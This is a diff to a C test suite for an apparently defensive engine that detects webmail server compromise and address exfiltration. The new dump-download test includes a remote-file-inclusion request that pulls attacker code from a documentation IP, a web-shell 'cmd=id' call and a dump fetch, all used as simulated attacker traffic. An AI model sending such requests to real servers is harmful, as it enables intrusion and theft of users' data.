@@ -4,6 +4,7 @@
 #include "config.h"
 #include "tap.h"
 #include "src/engine/engine.h"
+#include "src/engine/detect.h"
 #include "src/engine/agg.h"
 #include "src/core/event.h"
 #include "src/core/addrscan.h"
@@ -627,16 +628,23 @@ static uint64_t plain_pages(int days, uint64_t txn)
 	return txn;
 }
 
+/* A GET of uri by client from srv, in one phase. */
+static void get_event(struct bs_event *e, enum bs_http_phase phase, bs_time ts, const char *client, const char *srv,
+                      const char *uri, uint64_t txn)
+{
+	base(e, BS_EV_HTTP, ts, client, srv);
+	e->u.http.phase = phase;
+	e->u.http.txn_id = txn;
+	e->u.http.method = S("GET");
+	e->u.http.uri = S(uri);
+}
+
 /* A page served by srv from client with one reference; link: an <a href>. */
 static void page_with_ref(bs_time ts, const char *client, const char *srv, const char *uri, const char *ref, bool link,
                           uint64_t txn)
 {
 	struct bs_event e;
-	base(&e, BS_EV_HTTP, ts, client, srv);
-	e.u.http.phase = BS_HTTP_COMPLETE;
-	e.u.http.txn_id = txn;
-	e.u.http.method = S("GET");
-	e.u.http.uri = S(uri);
+	get_event(&e, BS_HTTP_COMPLETE, ts, client, srv, uri, txn);
 	e.u.http.status = 200;
 	e.u.http.resp_content_type = S("text/html");
 	if (ref) {
@@ -718,11 +726,7 @@ static void test_session_from_login_cookie(struct bs_engine_config *base_cfg)
 	}
 	/* wm3 tampered: a script only its copy has, served to alice's session */
 	struct bs_event e;
-	base(&e, BS_EV_HTTP, T(3, 10, 5, 0), "198.18.9.1", SRV3[2]);
-	e.u.http.phase = BS_HTTP_COMPLETE;
-	e.u.http.txn_id = txn++;
-	e.u.http.method = S("GET");
-	e.u.http.uri = S("/mail/showmail.php");
+	get_event(&e, BS_HTTP_COMPLETE, T(3, 10, 5, 0), "198.18.9.1", SRV3[2], "/mail/showmail.php", txn++);
 	e.u.http.status = 200;
 	e.u.http.resp_content_type = S("text/html");
 	e.u.http.cookie = S(cookies[0]);
@@ -741,6 +745,49 @@ static void test_session_from_login_cookie(struct bs_engine_config *base_cfg)
 	ok(!cat(find(r, "bob@example.net"), BS_CAT_TROJAN_PAGE_SERVED), "lang=en, which both sent, is nobody's session");
 	bs_results_free(r);
 	bs_agg_free(A);
+}
+
+/* A request, the addresses of its answer's body, then its answer. */
+static void fetch_with_addrs(bs_time ts, const char *client, const char *srv, const char *uri, const char *tag, int n,
+                             uint64_t txn)
+{
+	struct bs_event e;
+	get_event(&e, BS_HTTP_REQUEST, ts, client, srv, uri, txn);
+	bs_agg_sink(A, &e);
+	for (int i = 0; i < n; i++) {
+		char a[64];
+		snprintf(a, sizeof a, "%s%d@example.org", tag, i);
+		addr(ts, client, srv, BS_ADDR_HTTP_RESP_BODY, txn, a, true);
+	}
+	e.u.http.phase = BS_HTTP_COMPLETE;
+	e.u.http.status = 200;
+	e.u.http.resp_content_type = S("text/plain");
+	bs_agg_sink(A, &e);
+}
+
+/* The attacker downloads the dump it left in the web root: the addresses
+ * in it are exfiltrated; the same kind of file fetched by anyone else
+ * exposes nobody. */
+static void test_dump_download(struct bs_engine_config *base_cfg)
+{
+	struct bs_engine_config cfg = three_servers(base_cfg);
+	uint64_t txn = plain_pages(2, 1);
+	http(T(3, 9, 0, 0), "203.0.113.66", SRV3[2], "GET", "/mail/parse.php?file=http://203.0.113.66/x.txt?&cmd=id", 200,
+	     NULL, NULL, NULL, NULL, true, txn++);
+	http(T(3, 9, 1, 0), "203.0.113.66", SRV3[2], "GET", "/mail/tmp/.c.php?cmd=id", 200, NULL, NULL, NULL, NULL, true,
+	     txn++);
+	fetch_with_addrs(T(3, 9, 5, 0), "203.0.113.66", SRV3[2], "/mail/tmp/.d.txt", "taken", 3, txn++);
+	fetch_with_addrs(T(3, 9, 6, 0), "198.18.2.1", SRV3[2], "/mail/help/list.txt", "listed", 3, txn++);
+	struct bs_results *r = correlate(A, &cfg);
+	is_int(r->servers[2].verdict, BS_V_COMPROMISED, "dump download: wm3 compromised");
+	ok(cat(find(r, "taken0@example.org"), BS_CAT_EXFILTRATED) && cat(find(r, "taken2@example.org"), BS_CAT_EXFILTRATED),
+	   "the dump the attacker downloaded: its addresses exfiltrated");
+	ok(!find(r, "listed0@example.org"), "a text file another client fetched: nobody exposed");
+	bs_results_free(r);
+	bs_agg_free(A);
+	ok(bs_detect_data_file(S("/mail/tmp/.d.sql.gz")) && bs_detect_data_file(S("/x/DUMP.TXT")) &&
+	   !bs_detect_data_file(S("/robots.txt")) && !bs_detect_data_file(S("/mail/index.php")) &&
+	   !bs_detect_data_file(S("/.well-known/security.txt")), "data files: dumps, not robots.txt nor scripts");
 }
 
 int main(void)
@@ -765,6 +812,7 @@ int main(void)
 	test_exfil_by_addresses(&cfg);
 	test_tamper_links(&cfg);
 	test_session_from_login_cookie(&cfg);
+	test_dump_download(&cfg);
 	A = bs_agg_new();
 	scenario(0);
 	struct bs_results *r = correlate(A, &cfg);
